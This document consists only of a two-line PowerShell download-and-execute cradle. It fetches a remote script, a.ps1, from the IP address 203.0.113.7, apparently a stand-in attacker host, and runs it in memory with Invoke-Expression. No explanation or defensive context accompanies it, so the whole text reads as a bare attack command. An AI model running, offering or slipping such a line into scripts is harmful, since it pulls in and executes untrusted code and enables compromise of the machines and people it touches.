$w = New-Object Net.WebClient
IEX ($w.DownloadString("http://203.0.113.7/a.ps1"))
